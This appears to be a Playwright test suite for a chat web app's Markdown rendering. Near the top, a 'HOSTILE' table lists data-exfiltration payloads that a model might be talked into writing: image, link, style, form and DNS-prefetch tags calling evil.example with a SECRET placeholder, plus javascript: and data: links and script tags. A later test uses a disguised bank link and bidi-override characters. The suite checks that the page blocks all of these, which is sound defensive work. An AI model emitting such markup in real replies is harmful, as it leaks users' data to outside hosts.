import { gate } from "@elwood/testkit/answers";
import { anthropic, type AnthropicServer } from "@elwood/testkit/anthropic-server";
import { type GatewayProcess } from "@elwood/testkit/gateway-process";
import type { Browser, Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { BROWSER_PATH, openTab, resize } from "./page-browser.ts";
import { axeFaults } from "./page-checks.ts";
import { type PageScene, withPageScene } from "./page-scene.ts";
import { inTwo, logIn, replyIs, say } from "./page-talk.ts";

/** What a model may be talked into writing, so that reading it tells somebody else something. */
const HOSTILE: Readonly<Record<string, string>> = {
  "ui-185": "![x](https://evil.example/?d=SECRET)",
  "ui-187": '<img src="https://evil.example/?d=SECRET">',
  "ui-190": '<video poster="https://evil.example/1">',
  "ui-193": '<object data="https://evil.example/">',
  "ui-195": '<link rel="prefetch" href="https://evil.example/">',
  "ui-196": '<link rel="dns-prefetch" href="//SECRET.evil.example">',
  "ui-197": '<style>@import "https://evil.example/"</style>',
  "ui-199": '<svg><image href="https://evil.example/"/></svg>',
  "ui-200": '<a href="https://evil.example" ping="https://evil.example/p">x</a>',
  "ui-201": '<form action="https://evil.example"><input name=a></form>',
  "ui-202": '<base href="https://evil.example/">',
  "ui-206": "![x](HTTPS://EVIL.example/a)",
  "ui-207": "![x](https://allowed.example/redirect?u=https://evil.example)",
  "ui-208": '```mermaid\nclick A href "https://evil.example"\n```',
  "ui-209": "$$\\href{https://evil.example}{x}$$",
  "ui-210": "[click me](javascript:alert(1))",
  "ui-211": "[x](data:text/html,<script>1</script>)",
  "ui-212": "<script>1</script>",
};

describe.skipIf(!BROWSER_PATH)("Markdown on the page (ELWOOD_TEST_BROWSER names a browser)", () => {
  let browser: Browser;
  let server: AnthropicServer;
  let gateway: GatewayProcess;
  let chat: PageScene["chat"];
  withPageScene((scene) => ({ browser, server, gateway, chat } = scene));

  const reply = (page: Page) => page.locator("article.elwood .text").last();

  test("hostile Markdown: nothing leaves the page, nothing runs, nothing can be pressed that does", async () => {
    await using tab = await openTab(browser);
    const { page } = tab;
    const outside: string[] = [];
    await page.context().route(
      (url) => url.origin !== gateway.url,
      (route) => {
        outside.push(route.request().url());
        return route.abort();
      },
    );
    await logIn(page, gateway.url, gateway.token);
    const rows = Object.entries(HOSTILE);
    for (const [count, [id, text]] of rows.entries()) {
      server.will(anthropic.reply(`${text}\n\nSo much for ${id}.`));
      await say(page, `Row ${id}`);
      await expect
        .poll(() => page.locator("article.elwood .text", { hasText: `So much for ${id}.` }).count())
        .toBe(1);
      await expect.poll(() => page.locator(".evidence, .reply-facts").count()).toBe(count + 1);
    }
    const made =
      "img, script, iframe, object, embed, video, audio, svg image, form, input, base, link, style, meta";
    expect(await page.locator(".turns elwood-markdown").locator(made).count()).toBe(0);
    const links = await page.locator("elwood-markdown a").evaluateAll((all) =>
      all.map((a) => ({
        protocol: a instanceof HTMLAnchorElement ? a.protocol : "",
        rel: a.getAttribute("rel"),
        target: a.getAttribute("target"),
        attributes: a
          .getAttributeNames()
          .filter((name) => name.startsWith("on") || name === "ping" || name === "style"),
      })),
    );
    for (const link of links)
      expect(link).toEqual({
        protocol: "https:",
        rel: "noopener noreferrer",
        target: "_blank",
        attributes: [],
      });
    expect(links.length).toBeGreaterThan(0);
    // What was written can be read as it was written.
    await page.getByText("click me (javascript:alert(1))").waitFor();
    await page.getByText('<img src="https://evil.example/?d=SECRET">').first().waitFor();
    expect(outside).toEqual([]);
    expect(tab.faults).toEqual([]);
  });

  test("a link says where it leads when its words name another place, and hidden characters are written out", async () => {
    const tab = await chat();
    const { page } = tab;
    server.will(
      anthropic.reply(
        "See [https://bank.example](https://evil.example/login) and ab\u202edc\u202c, pay&#x202e;lla.",
      ),
    );
    await say(page, "Where\u202e?");
    await replyIs(page, "See https://bank.example (evil.example) and ab\\u202edc\\u202c, pay&#x202e;lla.");
    await page.locator("article.you .text", { hasText: "Where\\u202e?" }).waitFor();
  });

  test("a reply quoted five thousand times deep hides neither itself, nor its evidence, nor what follows", async () => {
    const tab = await chat();
    const { page } = tab;
    server.will(anthropic.reply(`${">".repeat(5_000)} deep`), anthropic.reply("Hello."));
    await say(page, "Quote");
    await page.locator(".evidence, .reply-facts").waitFor();
    await expect.poll(() => page.locator("article.elwood .text").innerText()).toMatch(/>>> deep$/);
    await say(page, "Hi");
    await replyIs(page, "Hello.");
    await page.reload();
    await replyIs(page, "Hello.");
    await expect.poll(() => page.locator(".evidence, .reply-facts").count()).toBe(2);
    expect(tab.faults).toEqual([]);
  });

  test("code is coloured, but for lines so long that it would hold the page up", async () => {
    const tab = await chat();
    const { page } = tab;
    const long = `class A { int ${"a".repeat(9_000)}; }`;
    server.will(anthropic.reply(`\`\`\`java\n${long}\n\`\`\`\n\n\`\`\`java\nclass B {}\n\`\`\`\n`));
    await say(page, "Some code");
    const [first, second] = [0, 1].map((nth) => page.locator(".code-block code").nth(nth));
    await second!.locator("span").first().waitFor();
    expect(await first!.locator("span").count()).toBe(0);
    expect(await first!.innerText()).toBe(long);
  });

  test("a list keeps its numbers and its code, and a paragraph runs the way its script does", async () => {
    const tab = await chat();
    const { page } = tab;
    server.will(anthropic.reply("3. Like so:\n   ```js\n   if (a)\n     b();\n   ```\n4. On.\n\nשלום עולם."));
    await say(page, "How?");
    await page.locator(".evidence, .reply-facts").waitFor();
    // Nothing stands above the page, and it still fills the window.
    expect(await page.locator("main").evaluate((main) => main.getBoundingClientRect().bottom)).toBe(720);
    await expect.poll(() => reply(page).locator("li pre").textContent()).toBe("if (a)\n  b();");
    await reply(page).locator("li .hljs-keyword").waitFor();
    expect(await reply(page).locator("ol").getAttribute("start")).toBe("3");
    const [first, last] = await reply(page)
      .locator("p")
      .last()
      .evaluate((p) => {
        const range = document.createRange();
        range.selectNodeContents(p);
        return [range.getBoundingClientRect().right, p.getBoundingClientRect().right];
      });
    expect(last - first).toBeLessThan(2);
  });

  test("blocks that are settled stay the very same elements while the rest is written, and when it is final", async () => {
    const door = gate();
    server.will(
      inTwo(
        "# Title\n\nFirst paragraph.\n\nSecond paragraph.\n\nThird ",
        "one.\n\n```js\nlet x = 1;\n```\n\nEnd.",
        door,
      ),
    );
    const tab = await chat();
    const { page } = tab;
    await say(page, "Write");
    await page.locator(".writing .text", { hasText: "Third" }).waitFor();
    const top = () =>
      reply(page)
        .locator("h3")
        .evaluate((h) => h.getBoundingClientRect().top - h.closest(".turns")!.getBoundingClientRect().top);
    await reply(page)
      .locator("h3")
      .evaluate((h) => Object.assign(h, { kept: true }));
    const before = await top();
    door.open();
    await page.locator(".evidence, .reply-facts").waitFor();
    expect(
      await reply(page)
        .locator("h3")
        .evaluate((h) => "kept" in h),
    ).toBe(true);
    await expect.poll(top).toBe(before);
    await reply(page).locator(".hljs-keyword").waitFor();
    expect(await reply(page).locator(".code-head span").innerText()).toBe("js");
  });

  test("a fence that is half typed is not shown as text, and code is copied as it was written", async () => {
    const door = gate();
    server.will(inTwo("Look: \n\n```js\nconst a = 1;\nconst b = '<b>'; ", "\n```\n\nThat is all.", door));
    await using tab = await openTab(browser, { permissions: ["clipboard-read", "clipboard-write"] });
    const { page } = tab;
    await logIn(page, gateway.url, gateway.token);
    await say(page, "Code");
    await page.locator(".writing pre", { hasText: "const b" }).waitFor();
    expect(await reply(page).textContent()).not.toContain("```");
    door.open();
    await page.locator(".evidence, .reply-facts").waitFor();
    await reply(page).getByRole("button", { name: "Copy the code" }).click();
    await expect
      .poll(() => page.evaluate(() => navigator.clipboard.readText()))
      .toBe("const a = 1;\nconst b = '<b>'; ");
    await reply(page).hover();
    await page.getByRole("button", { name: "Copy reply" }).click();
    await expect
      .poll(() => page.evaluate(() => navigator.clipboard.readText()))
      .toContain("```js\nconst a = 1;");
  });

  test("a wide table and long code scroll inside themselves, and axe finds nothing, in both themes", async () => {
    const cells = Array.from({ length: 14 }, (_, i) => `column_${i}`);
    const table = `| ${cells.join(" | ")} |\n|${" --- |".repeat(14)}\n| ${cells.join(" | ")} |`;
    server.will(
      anthropic.reply(
        `## Wide\n\n${table}\n\n\`\`\`\n${"long ".repeat(80)}\n\`\`\`\n\n1. one\n2. two\n\n> quoted`,
      ),
    );
    await using tab = await openTab(browser, { viewport: { width: 390, height: 844 } });
    const { page } = tab;
    await logIn(page, gateway.url, gateway.token);
    await say(page, "Wide things");
    await page.locator(".evidence, .reply-facts").waitFor();
    for (const [width, colorScheme, look] of [
      [360, "light", "all"],
      [360, "dark", "colours"],
      [1280, "light", "shape"],
    ] as const) {
      await page.emulateMedia({ colorScheme });
      await resize(page, width, 844);
      expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
      expect(await page.locator(".log").evaluate((log) => log.scrollWidth <= log.clientWidth)).toBe(true);
      expect(await axeFaults(page, look), `${width} px, ${colorScheme}`).toEqual([]);
    }
    await resize(page, 360, 844);
    await page.getByRole("button", { name: "Sessions" }).click();
    await page.getByRole("searchbox", { name: "Search sessions" }).waitFor();
    expect(await axeFaults(page), "drawer").toEqual([]);
    await page.keyboard.press("Escape");
    await page.goto(`${gateway.url}/c/new`);
    await page.getByText("What can I do for you?").waitFor();
    expect(await axeFaults(page), "empty").toEqual([]);
  });
});
